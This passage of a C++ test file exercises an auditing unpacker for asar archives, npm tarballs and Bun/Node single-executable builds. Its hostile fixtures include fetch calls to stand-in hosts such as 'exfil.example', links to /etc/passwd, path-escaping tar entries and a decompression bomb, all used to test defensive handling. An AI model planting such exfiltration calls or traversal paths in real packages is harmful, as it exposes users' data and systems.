  EXPECT_TRUE(NoteContains(*u, "'lib/bad.js' has an offset or size outside the archive"));
  EXPECT_TRUE(NoteContains(*u, "link not followed: link.js -> ../../etc/passwd"));
  EXPECT_TRUE(NoteContains(
      *u, "app.asar.unpacked/ (read when that folder is beside the archive): native.node"));
}

TEST(Asar, UnpackedFolderBesideTheArchiveIsRead) {
  TempDir d;
  d.Write("app.asar",
          Asar({{"main.js", "require('./native/addon.node')\n"}},
               ",\"native\":{\"files\":{\"helper.js\":{\"size\":10,\"unpacked\":true}}}"));
  d.Write("app.asar.unpacked/native/helper.js", "fetch(url)");
  auto u = Unpack(d.path() + "/app.asar");
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->kind, "asar");
  EXPECT_NE(Find(*u, "main.js"), nullptr);
  EXPECT_NE(Find(*u, d.path() + "/app.asar.unpacked/native/helper.js"), nullptr)
      << ::testing::PrintToString(u->notes);
  EXPECT_TRUE(NoteContains(*u, "app.asar.unpacked was read too"));
}

TEST(Asar, BrokenIndexIsNoted) {
  std::string file = Asar({{"a.js", "x"}});
  file[17] = '#';  // corrupt the JSON
  auto u = UnpackBytes(file, "app.asar");
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->kind, "asar");
  EXPECT_TRUE(NoteContains(*u, "cannot be parsed"));
}

// --- hostile input (issue 16) ----------------------------------------------

TEST(Hostile, JsModuleWithNulIsStillAnalysed) {
  const std::string js =
      std::string("/* \0\1\2\3\4\5\6 */\n", 14) + "fetch('https://exfil.example/x');\n";
  auto u = UnpackBytes(js, "evil.js");
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->kind, "javascript");
  ASSERT_EQ(u->modules.size(), 1u);
  EXPECT_NE(u->modules[0].text.find("exfil.example"), std::string::npos);
  EXPECT_TRUE(NoteContains(*u, "read as JavaScript all the same"));
  // In an asar too.
  auto a = UnpackBytes(Asar({{"main.js", js}}), "app.asar");
  ASSERT_TRUE(a.ok());
  EXPECT_NE(Find(*a, "main.js"), nullptr);
}

TEST(Hostile, ManyBadAsarEntriesGiveBoundedNotes) {
  std::string extra;
  for (int i = 0; i < 3000; ++i) extra += ",\"bad" + std::to_string(i) + "\":7";
  auto u = UnpackBytes(Asar({{"a.js", "x"}}, extra), "app.asar");
  ASSERT_TRUE(u.ok());
  EXPECT_LE(u->notes.size(), 30u);
  EXPECT_TRUE(NoteContains(*u, "2980 more notes like"));
}

// 300,000 bad entries gave 200,001 notes: the walk stops at the entry limit
// with a note, and the notes of one shape are capped.
TEST(Hostile, ThreeHundredThousandBadAsarEntriesGiveBoundedNotes) {
  std::string extra;
  extra.reserve(300000 * 16);
  for (int i = 0; i < 300000; ++i) extra += ",\"b" + std::to_string(i) + "\":{\"size\":1}";
  auto u = UnpackBytes(Asar({{"a.js", "x"}}, extra), "app.asar");
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->kind, "asar");
  EXPECT_LE(u->notes.size(), 30u) << ::testing::PrintToString(u->notes);
  EXPECT_TRUE(NoteContains(*u, "asar index has more than 200000 entries"))
      << ::testing::PrintToString(u->notes);
  EXPECT_TRUE(NoteContains(*u, "more notes like")) << ::testing::PrintToString(u->notes);
}

TEST(Hostile, DamagedElfIsNoted) {
  std::string elf = Elf({{".text", "code"}, {".rodata", "strings here"}});
  elf.resize(elf.size() - 40);  // cut into the section header table
  auto u = UnpackBytes(elf, "tool");
  ASSERT_TRUE(u.ok());
  EXPECT_TRUE(NoteContains(*u, "damaged elf file")) << ::testing::PrintToString(u->notes);
  auto sound = UnpackBytes(Elf({{".text", "code"}}), "tool");
  ASSERT_TRUE(sound.ok());
  EXPECT_FALSE(NoteContains(*sound, "damaged"));
}

// 4,096 Bun trailers pointing at one large module table ran past 600 s: the
// readers stop at the time budget with a note (here a budget of 0 s).
TEST(Hostile, ContainerReadersStopAtTheTimeBudget) {
  std::vector<BunModule> many;
  for (int i = 0; i < 2000; ++i)
    many.push_back({"/$bunfs/root/m" + std::to_string(i) + ".js", "x", "", "", 2, 1});
  std::string file = Elf({{".text", RuntimeNoise()}}) + BunGraph(many, 0, 6, 32);
  UnpackLimits limits;
  limits.max_seconds = 0;
  auto u = UnpackBytes(file, "agent", limits);
  ASSERT_TRUE(u.ok());
  EXPECT_TRUE(NoteContains(*u, "time budget")) << ::testing::PrintToString(u->notes);
  EXPECT_LT(u->modules.size(), many.size());
  // With the default budget the same file reads whole.
  auto whole = UnpackBytes(file, "agent");
  ASSERT_TRUE(whole.ok());
  EXPECT_EQ(whole->modules.size(), many.size());
}

// Every container reader keeps to the budget: with 0 s each stops before its
// first module, with a note.
TEST(Hostile, EveryContainerReaderNotesTheTimeBudget) {
  UnpackLimits limits;
  limits.max_seconds = 0;
  const std::string js = "fetch('https://collect.example/x');\n";
  struct Case {
    std::string reader, name, file;
  };
  std::string deno = RuntimeNoise();
  {
    const std::uint64_t eszip = deno.size();
    deno += "ESZIP2.3\x01\x02file:///app/main.ts\x03" + js + js + js;
    const std::uint64_t metadata = deno.size();
    deno += "{\"argv\":[]}d3n0l4nd";
    PutBe64(&deno, eszip);
    PutBe64(&deno, metadata);
  }
  const std::vector<Case> cases = {
      {"asar", "app.asar", Asar({{"main.js", js}, {"b.js", js}})},
      {"npm-tarball", "a.tgz", Tarball({{"package/index.js", js, ""}, {"package/b.js", js, ""}})},
      {"node-sea", "sea",
       Elf({{".text", RuntimeNoise()},
            {".note.sea", ElfNote("NODE_SEA_BLOB", SeaBlob("m.js", js))}})},
      {"pkg", "pkg-app",
       PkgFile(js, "{\"/snapshot/app/index.js\":{\"1\":[0," + std::to_string(js.size()) + "]}}",
               "0")},
      {"deno", "deno-app", deno},
  };
  for (const Case& c : cases) {
    auto whole = UnpackBytes(c.file, c.name);
    ASSERT_TRUE(whole.ok()) << c.reader;
    ASSERT_FALSE(whole->modules.empty())
        << c.reader << ": " << ::testing::PrintToString(whole->notes);
    EXPECT_FALSE(NoteContains(*whole, "time budget")) << c.reader;
    auto u = UnpackBytes(c.file, c.name, limits);
    ASSERT_TRUE(u.ok()) << c.reader;
    // The readers share one budget: the note names the reader that found it used up (the first
    // tried); the others stop too, so fewer modules come back.
    EXPECT_TRUE(NoteContains(*u, ": the time budget of 0 s"))
        << c.reader << ": " << ::testing::PrintToString(u->notes);
    EXPECT_LT(u->modules.size(), whole->modules.size()) << c.reader;
  }
}

TEST(Hostile, RealBunTrailerAfterManyDecoysIsFound) {
  std::string file = Elf({{".text", RuntimeNoise()}});
  for (int i = 0; i < 5000; ++i) file += "\n---- Bun! ----\n";
  file += BunGraph(SampleBunModules(), 0, 6, 32);
  auto u = UnpackBytes(file, "agent");
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->kind, "bun-sea");
  EXPECT_TRUE(NoteContains(*u, "only the last 4096 were tried"));
}

// --- npm tarballs ----------------------------------------------------------

TEST(NpmTarball, ReadsModulesAndNamesWhatItSkips) {
  std::string elf = Elf({{".rodata", "https://api.vendor.example/v1"}});
  std::string tgz =
      Tarball({{"package/package.json", "{\"name\":\"agent\"}", ""},
               {"package/dist/cli.mjs", "import os from 'os'; os.hostname();\n", ""},
               {"package/README.md", "# agent", ""},
               {"package/bin/agent", "#!/usr/bin/env node\nimport('../dist/cli.mjs')\n", ""},
               {"package/vendor/rg", elf, ""},
               {"package/evil.js", "", "../../../../etc/passwd"},
               {"../escape.js", "bad()", ""}});
  auto u = UnpackBytes(tgz, "agent-1.0.0.tgz");
  ASSERT_TRUE(u.ok()) << u.status().message();
  ASSERT_EQ(u->kind, "npm-tarball");
  ASSERT_EQ(u->modules.size(), 3u) << ::testing::PrintToString(u->notes);
  EXPECT_NE(Find(*u, "package/bin/agent"), nullptr);
  const Module* cli = Find(*u, "package/dist/cli.mjs");
  ASSERT_NE(cli, nullptr);
  EXPECT_EQ(cli->text, "import os from 'os'; os.hostname();\n");
  EXPECT_TRUE(NoteContains(*u, "link not followed: package/evil.js"));
  EXPECT_TRUE(NoteContains(*u, "unsafe path '../escape.js'"));
  EXPECT_TRUE(NoteContains(
      *u, "native executable or library not analysed as JavaScript: package/vendor/rg"));
  bool rg_string = false;
  for (const NativeString& s : u->strings)
    rg_string |= s.path == "package/vendor/rg" && s.text == "https://api.vendor.example/v1";
  EXPECT_TRUE(rg_string);
  EXPECT_TRUE(NoteContains(*u, ".md 1"));
}

TEST(NpmTarball, BunExecutableInsideIsOpened) {
  // Agents published as per-platform packages ship their Bun build inside
  // the tarball (package/bin/agent).
  std::string graph = BunGraph(SampleBunModules(), 0, 6, 32);
  std::string section;
  Put64(&section, graph.size());
  section += graph;
  std::string tgz =
      Tarball({{"package/package.json", "{}", ""},
               {"package/bin/agent", Elf({{".text", RuntimeNoise()}, {".bun", section}}), ""},
               {"package/bin/agent.exe", Pe(".bun", section), ""}});
  auto u = UnpackBytes(tgz, "agent-linux-x64.tgz");
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->kind, "npm-tarball");
  const Module* cli = Find(*u, "package/bin/agent!/$bunfs/root/cli.js");
  ASSERT_NE(cli, nullptr) << ::testing::PrintToString(u->notes);
  EXPECT_EQ(cli->container, "bun-sea");
  EXPECT_EQ(cli->text, "console.log(process.env.TZ);\n");
  EXPECT_TRUE(NoteContains(*u, "package/bin/agent is a bun-sea executable (section layout)"));
  // PE: the header that says "PE" lies beyond the first bytes read.
  EXPECT_NE(Find(*u, "package/bin/agent.exe!/$bunfs/root/latin.js"), nullptr);
}

TEST(NpmTarball, DecompressedBytesAreBounded) {
  // Highly compressible entries: a few KB of gzip for MBs of tar.
  std::vector<TarEntry> entries;
  for (int i = 0; i < 8; ++i)
    entries.push_back({fmt::format("package/big{}.bin", i), std::string(1 << 20, 'x'), ""});
  std::string tgz = Tarball(entries);
  ASSERT_LT(tgz.size(), 100000u);
  UnpackLimits limits;
  limits.max_total_bytes = 3 << 20;
  auto u = UnpackBytes(tgz, "bomb.tgz", limits);
  ASSERT_TRUE(u.ok());
  EXPECT_TRUE(NoteContains(*u, "bytes after decompression; rest of bomb.tgz not read"));
}

TEST(NpmTarball, LargeTarballOnDiskReadWhileItsPagesAreGivenBack) {
  // More than 8 MB of gzip: Unpack(path) gives back the mapped pages already
  // decompressed; modules before, between and after the incompressible
  // entries, and the modules of an executable entry, must read back exactly.
  std::string noise(7 << 20, '\0');
  std::uint64_t x = 88172645463325252ull;
  for (char& c : noise) {
    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    c = static_cast<char>(x);
  }
  std::string graph = BunGraph(SampleBunModules(), 0, 6, 32);
  std::string section;
  Put64(&section, graph.size());
  section += graph;
  const std::string exe = Elf({{".text", noise + RuntimeNoise()}, {".bun", section}});
  const std::string tgz =
      Tarball({{"package/first.js", "var first = 'https://first.example.com';\n", ""},
               {"package/noise1.bin", noise, ""},
               {"package/middle.js", "var middle = 2;\n", ""},
               {"package/bin/agent", exe, ""},
               {"package/last.js", "var last = 3;\n", ""}},
              32 << 20);
  ASSERT_GT(tgz.size(), size_t{12} << 20);
  TempDir d;
  const std::string path = d.path() + "/agent-1.0.0.tgz";
  std::ofstream(path, std::ios::binary) << tgz;
  auto u = Unpack(path);
  ASSERT_TRUE(u.ok()) << u.status().message();
  ASSERT_EQ(u->kind, "npm-tarball");
  ASSERT_NE(Find(*u, "package/first.js"), nullptr) << ::testing::PrintToString(u->notes);
  EXPECT_EQ(Find(*u, "package/first.js")->text, "var first = 'https://first.example.com';\n");
  ASSERT_NE(Find(*u, "package/middle.js"), nullptr);
  EXPECT_EQ(Find(*u, "package/middle.js")->text, "var middle = 2;\n");
  ASSERT_NE(Find(*u, "package/last.js"), nullptr);
  EXPECT_EQ(Find(*u, "package/last.js")->text, "var last = 3;\n");
  const Module* cli = Find(*u, "package/bin/agent!/$bunfs/root/cli.js");
  ASSERT_NE(cli, nullptr) << ::testing::PrintToString(u->notes);
  EXPECT_EQ(cli->text, "console.log(process.env.TZ);\n");
}

TEST(NpmTarball, EntryLimitAndCorruptTarball) {
  std::string tgz =
      Tarball({{"package/a.js", std::string(2000, 'a'), ""}, {"package/b.js", "b", ""}});
  UnpackLimits limits;
  limits.max_entry_bytes = 1000;
  auto u = UnpackBytes(tgz, "x.tgz", limits);
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->modules.size(), 1u);
  EXPECT_TRUE(NoteContains(*u, "more than the 1000 allowed per entry"));

  auto bad = UnpackBytes("\x1f\x8b garbage", "x.tgz");
  EXPECT_FALSE(bad.ok());
  EXPECT_NE(bad.status().message().find("x.tgz"), std::string::npos);
  auto misnamed = UnpackBytes("plain text", "y.tgz");
  EXPECT_FALSE(misnamed.ok());
}

// --- plain files, native strings, directories ------------------------------

TEST(PlainFile, JavaScriptInAnyEncoding) {
  auto u = UnpackBytes("let a = 1;\n", "a.js");
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->kind, "javascript");
  ASSERT_EQ(u->modules.size(), 1u);
  EXPECT_EQ(u->modules[0].text, "let a = 1;\n");
  auto bad = UnpackBytes("let a = '\xff';\n", "b.js");
  ASSERT_TRUE(bad.ok());
  EXPECT_EQ(bad->modules[0].encoding, "latin1");
  EXPECT_EQ(bad->modules[0].text, "let a = '\xc3\xbf';\n");
}

TEST(NativeStrings, AsciiAndUtf16WithOffsets) {
  std::string file =
      Elf({{".rodata", std::string("\x01\x02https://api.example.com/v1\0\x03", 30) +
                           std::string("H\0O\0S\0T\0N\0A\0M\0E\0", 16) + "\x05short\x05"}});
  auto u = UnpackBytes(file, "rust-agent");
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->kind, "native");
  bool url = false, wide = false, shorty = false;
  for (const NativeString& s : u->strings) {
    if (s.text == "https://api.example.com/v1") {
      url = true;
      EXPECT_EQ(file.substr(s.offset, s.text.size()), s.text);
      EXPECT_EQ(s.encoding, "ascii");
    }
    if (s.text == "HOSTNAME") wide = s.encoding == "utf16le";
    if (s.text == "short") shorty = true;
  }
  EXPECT_TRUE(url);
  EXPECT_TRUE(wide);
  EXPECT_FALSE(shorty);  // 5 characters: below the minimum of 6
}

// The reference: strings(1)-style byte loops, no skipping.
std::vector<NativeString> NaiveStrings(std::string_view f, size_t min_len) {
  auto printable = [](unsigned char c) { return (c >= 0x20 && c < 0x7f) || c == '\t'; };
  std::vector<NativeString> out;
  for (size_t i = 0; i < f.size();) {
    size_t start = i;
    while (i < f.size() && printable(f[i]) && i - start < 4096) ++i;
    if (i - start >= min_len)
      out.push_back({start, std::string(f.substr(start, i - start)), "ascii"});
    if (i == start) ++i;
  }
  for (size_t align = 0; align < 2; ++align) {
    for (size_t i = align; i + 1 < f.size();) {
      size_t start = i;
      std::string t;
      while (i + 1 < f.size() && f[i + 1] == 0 && printable(f[i]) && t.size() < 4096) {
        t.push_back(f[i]);
        i += 2;
      }
      if (t.size() >= min_len) out.push_back({start, t, "utf16le"});
      if (i == start) i += 2;
    }
  }
  std::stable_sort(out.begin(), out.end(), [](const NativeString& a, const NativeString& b) {
    return a.offset < b.offset;
  });
  return out;
}

TEST(NativeStrings, SimdSkipsMatchAPlainScan) {
  // Random binary with printable and UTF-16LE runs of every length around
  // the minimum, at every alignment.
  std::uint32_t seed = 12345;
  auto next = [&seed] { return seed = seed * 1103515245u + 12345u; };
  std::string f = Elf({{".text", "x"}});
  for (int k = 0; k < 4000; ++k) {
    int kind = next() >> 16 & 3;
    size_t len = (next() >> 16) % 12;
    if (kind == 0) {
      for (size_t j = 0; j < len; ++j) f.push_back(static_cast<char>('a' + j % 26));
    } else if (kind == 1) {
      for (size_t j = 0; j < len; ++j) f += std::string{static_cast<char>('A' + j % 26), '\0'};
    } else {
      for (size_t j = 0; j < len; ++j) f.push_back(static_cast<char>(next() >> 16));
    }
  }
  for (size_t min_len : {1u, 4u, 6u, 9u, 17u}) {
    UnpackLimits limits;
    limits.min_string_length = min_len;
    auto u = UnpackBytes(f, "random", limits);
    ASSERT_TRUE(u.ok());
    auto want = NaiveStrings(f, min_len);
    ASSERT_EQ(u->strings.size(), want.size()) << min_len;
    for (size_t i = 0; i < want.size(); ++i) {
      EXPECT_EQ(u->strings[i].offset, want[i].offset) << min_len << " " << i;
      EXPECT_EQ(u->strings[i].text, want[i].text) << min_len << " " << i;
    }
  }
}

TEST(NativeStrings, CountIsBounded) {
  std::string file = Elf({{".rodata", ""}});
  for (int i = 0; i < 1000; ++i) file += std::string("string") + std::to_string(i) + '\0';
  UnpackLimits limits;
  limits.max_strings = 100;
  auto u = UnpackBytes(file, "big", limits);
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->strings.size(), 100u);
  EXPECT_TRUE(NoteContains(*u, "more than 100 printable strings"));
}

TEST(Directory, NodeModulesTree) {
  TempDir d;
  d.Write("package.json", "{\"bin\":\"cli.js\"}");
  d.Write("cli.js", "require('./node_modules/dep')\n");
  d.Write("node_modules/dep/index.cjs",
          "module.exports = Intl.DateTimeFormat().resolvedOptions().timeZone;\n");
  d.Write("node_modules/dep/logo.png", std::string("\x89PNG\0\0", 6));
  d.Write("node_modules/dep/bin/tool.js", std::string("\0\0\0binary", 9));
  std::filesystem::create_symlink("/etc", d.path() + "/node_modules/escape");
  std::filesystem::create_directories(d.path() + "/node_modules/.bin");
  std::filesystem::create_symlink("../dep/index.cjs", d.path() + "/node_modules/.bin/dep");
  d.Write("bin/agent", "#!/usr/bin/env node\nrequire('../cli.js')\n");
  d.Write("bin/helper", "#!/bin/sh\nexec true\n");
  d.Write("node_modules/agent-linux-x64/agent",
          Elf({{".text", RuntimeNoise()}}) + BunGraph(SampleBunModules(), 0, 6, 32));
  std::string elf = Elf({{".text", "rg"}});
  d.Write("node_modules/agent-linux-x64/rg", elf);
  auto u = Unpack(d.path());
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->kind, "directory");
  EXPECT_EQ(u->modules.size(), 8u) << ::testing::PrintToString(u->notes);
  EXPECT_NE(Find(*u, d.path() + "/node_modules/dep/index.cjs"), nullptr);
  EXPECT_NE(Find(*u, d.path() + "/node_modules/agent-linux-x64/agent!/$bunfs/root/latin.js"),
            nullptr);
  EXPECT_TRUE(NoteContains(
      *u, "not analysed as JavaScript: " + d.path() + "/node_modules/agent-linux-x64/rg"));
  EXPECT_TRUE(NoteContains(
      *u, "symlink out of the tree not followed: " + d.path() + "/node_modules/escape -> /etc"));
  EXPECT_TRUE(NoteContains(*u, "1 symlinks within the tree not followed"));
  const Module* bin = Find(*u, d.path() + "/bin/agent");
  ASSERT_NE(bin, nullptr);
  EXPECT_EQ(bin->text, "#!/usr/bin/env node\nrequire('../cli.js')\n");
  // Named like a module: node loads it, so it is read (issue 16).
  EXPECT_NE(Find(*u, d.path() + "/node_modules/dep/bin/tool.js"), nullptr);
  EXPECT_TRUE(NoteContains(*u, "tool.js holds NUL or control bytes"));
  EXPECT_TRUE(NoteContains(*u, ".png 1"));
}

TEST(Unpack, MissingAndOversizedTargets) {
  auto missing = Unpack("/nonexistent/glassbox/agent.tgz");
  ASSERT_FALSE(missing.ok());
  EXPECT_NE(missing.status().message().find("/nonexistent/glassbox/agent.tgz"), std::string::npos);
  TempDir d;
  d.Write("big.js", std::string(5000, 'x'));
  UnpackLimits limits;
  limits.max_file_bytes = 4096;
  auto big = Unpack(d.path() + "/big.js", limits);
  ASSERT_FALSE(big.ok());
  EXPECT_NE(big.status().message().find("more than the 4096 bytes"), std::string::npos);
}

TEST(ObjectFile, TruncatedHeadersAreNotFound) {
  std::string elf = Elf({{".bun", "payload"}});
  for (size_t cut : {4u, 20u, 63u, 64u, 100u}) {
    EXPECT_FALSE(FindSection(elf.substr(0, cut), "", ".bun").has_value()) << cut;
  }
  ASSERT_TRUE(FindSection(elf, "", ".bun").has_value());
  std::string macho = MachO("__BUN", "__bun", "payload");
  for (size_t cut : {4u, 20u, 40u, 120u}) {
    EXPECT_FALSE(FindSection(macho.substr(0, cut), "__BUN", "__bun").has_value()) << cut;
  }
}

// --- real executables (tests/audit/fixtures/make_fixtures.sh) --------------

// Only where make_fixtures.sh says so (ctest's audit_unpack_real runs it and
// then these tests): read from a default folder, this test raced the script
// rewriting the fixtures when ctest ran both at once.
std::string FixtureDir() {
  const char* env = std::getenv("GLASSBOX_AUDIT_FIXTURES");
  return env != nullptr ? env : "";
}

TEST(RealFixtures, BunAndNodeSeaExecutables) {
  std::string dir = FixtureDir();
  if (dir.empty())
    GTEST_SKIP() << "GLASSBOX_AUDIT_FIXTURES is not set (ctest's audit_unpack_real sets it)";
  if (!std::filesystem::exists(dir + "/manifest.txt")) {
    GTEST_SKIP() << "no real fixtures in " << dir
                 << ": run tests/audit/fixtures/make_fixtures.sh (needs bun and postject from "
                    "scripts/bootstrap.sh --test)";
  }
  std::ifstream manifest(dir + "/manifest.txt");
  std::string file, kind, layout, module, needle;
  int checked = 0;
  // Each line: file kind layout module-path-suffix text-the-module-contains
  while (manifest >> file >> kind >> layout >> module >> needle) {
    SCOPED_TRACE(file);
    auto u = Unpack(dir + "/" + file);
    ASSERT_TRUE(u.ok()) << u.status().message();
    EXPECT_EQ(u->kind, kind);
    if (layout != "-") {
      EXPECT_EQ(u->layout, layout);
    }
    bool found = false;
    for (const Module& m : u->modules) {
      if (m.path.size() >= module.size() &&
          m.path.compare(m.path.size() - module.size(), module.size(), module) == 0) {
        found = m.text.find(needle) != std::string::npos;
        if (found) break;
      }
    }
    EXPECT_TRUE(found) << "no module ending in " << module << " containing " << needle
                       << "; notes: " << ::testing::PrintToString(u->notes);
    ++checked;
  }
  EXPECT_GT(checked, 0);
}

}  // namespace
}  // namespace glassbox::audit
